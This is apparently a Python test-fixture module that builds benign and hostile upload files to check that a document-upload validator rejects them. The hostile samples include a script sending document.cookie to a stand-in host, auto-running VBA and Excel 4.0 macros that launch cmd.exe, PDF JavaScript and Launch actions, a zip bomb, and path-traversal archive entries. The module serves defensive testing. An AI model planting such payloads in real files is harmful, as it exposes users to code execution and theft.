"""Files a delegate might upload, good and hostile, built in memory.

Every file is the same, byte for byte, on every run: archives carry a fixed timestamp
and documents a fixed creation date. The hostile files expect uploads to be limited to
CORPUS_FILE_MAX_BYTES (set it with pytest-django's `settings` fixture); the oversized file
is one byte over that limit, so that no test has to write 50 MB.
"""

import datetime
import functools
import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterable

import docx
import openpyxl
import pptx
from fpdf import FPDF
from fpdf.enums import EncryptionMethod
from openpyxl.writer.excel import ExcelWriter
from pypdf import PdfWriter

CORPUS_FILE_MAX_BYTES = 1_000_000

PDF_CONTENT_TYPE = "application/pdf"
DOCX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
PPTX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

PDF_TEXT = "Guidelines for industry on child online protection"
DOCX_PARAGRAPH = "Contribution on age-appropriate design"
DOCX_TABLE = (("Country", "Measure"), ("Ghana", "National helpline"))
PPTX_TITLE = "Safer Internet Day"
PPTX_BODY = "Outcomes of the youth consultation"
XLSX_ROWS = (("Member State", "Reports"), ("Brazil", 42))

FIXED_DATE_TIME = (2025, 1, 1, 0, 0, 0)
FIXED_DATETIME = datetime.datetime(2025, 1, 1, tzinfo=datetime.UTC)
MEBIBYTE = 1024 * 1024

DOCX_MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
VBA_PROJECT_TYPE = "application/vnd.ms-office.vbaProject"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

OLE_COMPOUND_FILE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
DOS_STUB = b"This program cannot be run in DOS mode.\r\r\n$"
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + bytes(54) + DOS_STUB + bytes(200)

HTML_WITH_SCRIPT = b"<!DOCTYPE html>\n<html><body><h1>Invitation</h1><script>fetch('https://example.invalid/?c=' + document.cookie)</script></body></html>\n"
SVG_WITH_SCRIPT = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>\n'
VBA_PROJECT = (
    OLE_COMPOUND_FILE
    + bytes(504)
    + b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nShell "cmd.exe"\r\nEnd Sub\r\n'
)
# An OLE "Package" object wrapping a script, as Word stores a file dragged into a document.
PACKAGED_SCRIPT = (
    OLE_COMPOUND_FILE
    + bytes(504)
    + "\x01Ole10Native".encode("utf-16-le")
    + bytes(64)
    + b"\x02\x00invoice.vbs\x00C:\\Users\\Public\\invoice.vbs\x00\x00\x00\x03\x00"
    + b'CreateObject("WScript.Shell").Run "cmd.exe"\r\n'
)
PAGE_OBJECTS = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
)


def benign_files() -> list[tuple[str, bytes, str]]:
    """(name, content, content type) of documents that must be accepted."""
    from tests.contributions import corpus_attacks

    return [
        ("CWG-COP guidelines.pdf", pdf_bytes(), PDF_CONTENT_TYPE),
        ("Contribution from Ghana.docx", docx_bytes(), DOCX_CONTENT_TYPE),
        ("Safer Internet Day.pptx", pptx_bytes(), PPTX_CONTENT_TYPE),
        ("Reports by country.xlsx", xlsx_bytes(), XLSX_CONTENT_TYPE),
        ("Restricted but open.pdf", corpus_attacks.owner_restricted_pdf(), PDF_CONTENT_TYPE),
        *corpus_attacks.benign_files(pdf_bytes(), docx_bytes(), xlsx_bytes()),
    ]


def hostile_files() -> list[tuple[str, bytes, str]]:
    """(name, content, expected FileRejected code) of uploads that must be refused."""
    return list(_hostile_files())


@functools.cache
def _hostile_files() -> tuple[tuple[str, bytes, str], ...]:
    from tests.contributions import corpus_attacks

    pdf = pdf_bytes()
    document = docx_bytes()
    workbook = xlsx_bytes()
    return (
        *corpus_attacks.hostile_files(pdf, document, workbook, pptx_bytes()),
        # Not documents at all.
        ("programme.pdf", WINDOWS_PROGRAM, "unsupported-type"),
        ("invoice\u202efdp.exe", WINDOWS_PROGRAM, "unsupported-type"),
        ("report.docx", b"\x7fELF\x02\x01\x01\x00" + bytes(120), "unsupported-type"),
        ("invitation.pdf", HTML_WITH_SCRIPT, "unsupported-type"),
        ("logo.pdf", SVG_WITH_SCRIPT, "unsupported-type"),
        ("notes.txt", b"Agenda item 3: youth participation.\n", "unsupported-type"),
        (
            "annexes.xlsx",
            zip_archive([("minutes.txt", b"Minutes of the meeting.")]),
            "unsupported-type",
        ),
        (
            "position-paper.odt",
            zip_archive(
                [
                    ("mimetype", b"application/vnd.oasis.opendocument.text"),
                    ("content.xml", b"<office:document-content/>"),
                ]
            ),
            "unsupported-type",
        ),
        # Archives that are dangerous to expand.
        ("annual-report.docx", _zip_bomb(document), "archive-bomb"),
        ("many-parts.docx", _many_parts(document), "archive-bomb"),
        (
            "minutes.docx",
            repackage(document, add=[("../../evil.txt", b"owned")]),
            "unsafe-archive-path",
        ),
        (
            "absolute-path.docx",
            repackage(document, add=[("/etc/cron.d/evil", b"owned")]),
            "unsafe-archive-path",
        ),
        (
            "backslash-path.docx",
            repackage(document, add=[("word\\..\\..\\evil.bat", b"owned")]),
            "unsafe-archive-path",
        ),
        (
            "drive-letter.docx",
            repackage(document, add=[("C:/Users/Public/evil.bat", b"owned")]),
            "unsafe-archive-path",
        ),
        (
            "duplicate-parts.docx",
            repackage(document, add=[("word/document.xml", _word_document("Second body"))]),
            "unsafe-archive-path",
        ),
        # Macros and other active content in Office documents.
        ("agenda.docx", _macro_document(document), "macro"),
        ("agenda.docm", _macro_document(document), "macro"),
        (
            "hidden-macro.docx",
            repackage(document, add=[("word/vbaProject.bin", VBA_PROJECT)]),
            "macro",
        ),
        ("budget.xlsx", _macro_workbook(workbook), "macro"),
        ("excel4-macro.xlsx", _excel4_macro_workbook(workbook), "macro"),
        ("activex.docx", _activex_document(document), "active-content"),
        (
            "embedded-program.docx",
            repackage(document, add=[("word/embeddings/oleObject1.bin", WINDOWS_PROGRAM)]),
            "active-content",
        ),
        (
            "packaged-script.docx",
            repackage(document, add=[("word/embeddings/oleObject1.bin", PACKAGED_SCRIPT)]),
            "active-content",
        ),
        ("remote-template.docx", _remote_template_document(document), "active-content"),
        # Active content in PDFs.
        (
            "open-action.pdf",
            _pdf_with_open_action(b"<< /Type /Action /S /JavaScript /JS (app.alert\\('CWG'\\)) >>"),
            "pdf-active-content",
        ),
        (
            "escaped-names.pdf",
            _pdf_with_open_action(b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"),
            "pdf-active-content",
        ),
        (
            "launch.pdf",
            _pdf_with_open_action(b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) >> >>"),
            "pdf-active-content",
        ),
        ("attachment.pdf", _pdf_with_attachment(pdf), "pdf-active-content"),
        ("unlisted-object.pdf", _pdf_with_unlisted_javascript(), "pdf-active-content"),
        ("compressed-object.pdf", _pdf_with_compressed_javascript(), "pdf-active-content"),
        # Encrypted files and legacy Office formats.
        ("encrypted.pdf", _encrypted_pdf(), "encrypted"),
        ("aes-encrypted.pdf", _aes_encrypted_pdf(), "encrypted"),
        ("statement.docx", OLE_COMPOUND_FILE + bytes(1528), "encrypted"),
        # Size, name and damage.
        ("large-annex.pdf", _oversized_pdf(pdf), "too-large"),
        ("empty.pdf", b"", "empty"),
        ("contribution.docx", pdf, "type-mismatch"),
        ("contribution.pdf", document, "type-mismatch"),
        ("truncated.pdf", pdf[: len(pdf) // 2], "corrupt"),
        (
            "broken.docx",
            repackage(document, replace=[("word/document.xml", b"<w:document")]),
            "corrupt",
        ),
    )


def pdf_bytes(text: str = PDF_TEXT) -> bytes:
    """A one-page PDF made with fpdf2."""
    document = FPDF()
    document.set_creation_date(FIXED_DATETIME)
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text=text)
    return bytes(document.output())


def docx_bytes() -> bytes:
    """A Word document made with python-docx: one paragraph and one table."""
    document = docx.Document()
    document.core_properties.created = FIXED_DATETIME
    document.core_properties.modified = FIXED_DATETIME
    document.add_paragraph(DOCX_PARAGRAPH)
    table = document.add_table(rows=len(DOCX_TABLE), cols=len(DOCX_TABLE[0]))
    for row, values in zip(table.rows, DOCX_TABLE, strict=True):
        for cell, value in zip(row.cells, values, strict=True):
            cell.text = value
    buffer = io.BytesIO()
    document.save(buffer)
    return repackage(buffer.getvalue())


def pptx_bytes() -> bytes:
    """A PowerPoint presentation made with python-pptx: one slide, a title and a body."""
    presentation = pptx.Presentation()
    presentation.core_properties.created = FIXED_DATETIME
    presentation.core_properties.modified = FIXED_DATETIME
    slide = presentation.slides.add_slide(presentation.slide_layouts[1])
    slide.shapes.title.text = PPTX_TITLE
    slide.placeholders[1].text = PPTX_BODY
    buffer = io.BytesIO()
    presentation.save(buffer)
    return repackage(buffer.getvalue())


def xlsx_bytes(rows: Iterable[Iterable[object]] = XLSX_ROWS) -> bytes:
    """An Excel workbook made with openpyxl."""
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(list(row))
    workbook.properties.created = FIXED_DATETIME.replace(tzinfo=None)
    workbook.properties.modified = FIXED_DATETIME.replace(tzinfo=None)
    buffer = io.BytesIO()
    # Workbook.save stamps the current time as the modification date; the writer it uses
    # keeps the date set above.
    ExcelWriter(workbook, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED)).save()
    return repackage(buffer.getvalue())


def zip_archive(
    entries: Iterable[tuple[str, bytes]], *, compression: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A zip archive of the entries, in order, duplicates included, with a fixed timestamp."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        # zipfile warns about a duplicate name; writing one is the point of some cases.
        warnings.simplefilter("ignore", UserWarning)
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=FIXED_DATE_TIME)
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def repackage(
    package: bytes,
    *,
    add: Iterable[tuple[str, bytes]] = (),
    replace: Iterable[tuple[str, bytes]] = (),
    content_types: Iterable[str] = (),
    main_type: tuple[str, str] | None = None,
) -> bytes:
    """Rewrite an Office package: replace parts, append parts, declare content types.

    `content_types` are <Default> or <Override> elements added to [Content_Types].xml;
    `main_type` is an (old, new) pair of content types to swap there.
    """
    replacements = dict(replace)
    entries = []
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        for info in archive.infolist():
            data = replacements.get(info.filename, archive.read(info))
            if info.filename == "[Content_Types].xml":
                text = data.decode()
                if main_type is not None:
                    text = text.replace(main_type[0], main_type[1])
                text = text.replace("</Types>", "".join(content_types) + "</Types>")
                data = text.encode()
            entries.append((info.filename, data))
    return zip_archive([*entries, *add])


def add_relationship(package: bytes, *, part: str, relationship: str) -> bytes:
    """Add a <Relationship> element to an existing relationships part."""
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        text = archive.read(part).decode()
    text = text.replace("</Relationships>", relationship + "</Relationships>")
    return repackage(package, replace=[(part, text.encode())])


def relationships_part(*relationships: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(relationships)
        + "</Relationships>"
    ).encode()


def _word_document(text: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    ).encode()


def _zip_bomb(document: bytes) -> bytes:
    """A Word document with a 210 MB part of zeros that deflates to about 200 kB."""
    buffer = io.BytesIO(document)
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("word/media/image1.png", date_time=FIXED_DATE_TIME)
        info.compress_type = zipfile.ZIP_DEFLATED
        zeros = bytes(MEBIBYTE)
        with archive.open(info, "w") as stream:
            for _ in range(210):
                stream.write(zeros)
    return buffer.getvalue()


def _many_parts(document: bytes) -> bytes:
    parts = [(f"word/parts/part{number}.xml", b"") for number in range(2000)]
    return repackage(document, add=parts)


def _macro_document(document: bytes) -> bytes:
    """A Word document turned into a .docm: a VBA project, declared and related."""
    with_project = add_relationship(
        document,
        part="word/_rels/document.xml.rels",
        relationship=(
            '<Relationship Id="rIdVba" Target="vbaProject.bin" '
            'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/>'
        ),
    )
    return repackage(
        with_project,
        add=[("word/vbaProject.bin", VBA_PROJECT)],
        content_types=[f'<Default Extension="bin" ContentType="{VBA_PROJECT_TYPE}"/>'],
        main_type=(DOCX_MAIN_TYPE, DOCM_MAIN_TYPE),
    )


def _macro_workbook(workbook: bytes) -> bytes:
    """An Excel workbook turned into an .xlsm."""
    return repackage(
        workbook,
        add=[("xl/vbaProject.bin", VBA_PROJECT)],
        content_types=[f'<Default Extension="bin" ContentType="{VBA_PROJECT_TYPE}"/>'],
        main_type=(XLSX_MAIN_TYPE, XLSM_MAIN_TYPE),
    )


def _excel4_macro_workbook(workbook: bytes) -> bytes:
    """An Excel workbook with an Excel 4.0 macro sheet, which runs without any VBA."""
    macro_sheet = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        b'<sheetData><row r="1"><c r="A1"><f>EXEC("cmd.exe")</f></c></row></sheetData>'
        b"</xm:macrosheet>"
    )
    return repackage(
        workbook,
        add=[("xl/macrosheets/sheet2.xml", macro_sheet)],
        content_types=[
            '<Override PartName="/xl/macrosheets/sheet2.xml" '
            'ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
        ],
    )


def _activex_document(document: bytes) -> bytes:
    control = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStreamInit"/>'
    )
    return repackage(
        document,
        add=[("word/activeX/activeX1.xml", control), ("word/activeX/activeX1.bin", bytes(64))],
        content_types=[
            '<Override PartName="/word/activeX/activeX1.xml" '
            'ContentType="application/vnd.ms-office.activeX+xml"/>'
        ],
    )


def _remote_template_document(document: bytes) -> bytes:
    """A Word document that fetches its template from the network when opened."""
    settings_relationships = relationships_part(
        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/attachedTemplate" '
        'Target="https://example.invalid/templates/agenda.dotm" TargetMode="External"/>'
    )
    return repackage(document, add=[("word/_rels/settings.xml.rels", settings_relationships)])


def pdf_from_objects(objects: Iterable[bytes], *, unlisted: Iterable[bytes] = ()) -> bytes:
    """A PDF whose object n is objects[n - 1], object 1 the catalogue.

    The `unlisted` objects are written into the file but left out of the cross-reference
    table, where a parser that trusts the table never looks.
    """
    output = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    objects = list(objects)
    for number, body in enumerate(objects, start=1):
        offsets.append(len(output))
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    for number, body in enumerate(unlisted, start=len(objects) + 1):
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    cross_reference = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        output += b"%010d 00000 n \n" % offset
    output += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        cross_reference,
    )
    return bytes(output)


def _pdf_with_open_action(action: bytes) -> bytes:
    return pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *PAGE_OBJECTS, action]
    )


def _pdf_with_unlisted_javascript() -> bytes:
    return pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS],
        unlisted=[b"<< /Type /Action /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>"],
    )


def _pdf_with_compressed_javascript() -> bytes:
    """A PDF whose JavaScript action sits in a compressed object stream, unseen in the raw bytes.

    Objects in object streams need a cross-reference stream: each entry is a type byte,
    four bytes of offset (or of object stream number) and two of generation (or index).
    """
    action = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"4 0 "
    packed = zlib.compress(header + action)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        *PAGE_OBJECTS,
    ]
    output = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(output)
        output += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[5] = len(output)
    output += (
        b"5 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (
            len(header),
            len(packed),
        )
    )
    output += packed + b"\nendstream\nendobj\n"
    offsets[6] = len(output)
    entries = struct.pack(">BIH", 0, 0, 65535)
    for number in (1, 2, 3):
        entries += struct.pack(">BIH", 1, offsets[number], 0)
    entries += struct.pack(">BIH", 2, 5, 0)
    entries += struct.pack(">BIH", 1, offsets[5], 0)
    entries += struct.pack(">BIH", 1, offsets[6], 0)
    output += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(entries)
    )
    output += entries + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(output)


def _pdf_with_attachment(pdf: bytes) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(pdf))
    writer.add_attachment("payload.exe", WINDOWS_PROGRAM)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _encrypted_pdf() -> bytes:
    """A PDF that opens only with a password.

    fpdf2's RC4 encryption draws nothing at random, unlike pypdf's, so the file is the
    same on every run.
    """
    document = FPDF()
    document.set_creation_date(FIXED_DATETIME)
    document.set_encryption(
        owner_password="owner", user_password="secret", encryption_method=EncryptionMethod.RC4
    )
    document.add_page()
    document.set_font("helvetica", size=12)
    document.cell(text=PDF_TEXT)
    return bytes(document.output())


def _aes_encrypted_pdf() -> bytes:
    """A PDF declaring AES-256 encryption, which pypdf cannot even open without an AES library."""
    output = pdf_from_objects([b"<< /Type /Catalog /Pages 2 0 R >>", *PAGE_OBJECTS])
    encrypt = (
        b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -4 "
        b"/O <" + b"00" * 48 + b"> /U <" + b"00" * 48 + b"> "
        b"/OE <" + b"00" * 32 + b"> /UE <" + b"00" * 32 + b"> /Perms <" + b"00" * 16 + b"> "
        b"/CF << /StdCF << /CFM /AESV3 /AuthEvent /DocOpen /Length 32 >> >> "
        b"/StmF /StdCF /StrF /StdCF >> /ID [<" + b"11" * 16 + b"> <" + b"11" * 16 + b">]"
    )
    return output.replace(b"/Root 1 0 R >>", b"/Root 1 0 R " + encrypt + b" >>")


def _oversized_pdf(pdf: bytes) -> bytes:
    """A real PDF followed by a comment that takes it one byte past CORPUS_FILE_MAX_BYTES."""
    padding = CORPUS_FILE_MAX_BYTES + 1 - len(pdf) - 2
    return pdf + b"%" + b" " * padding + b"\n"
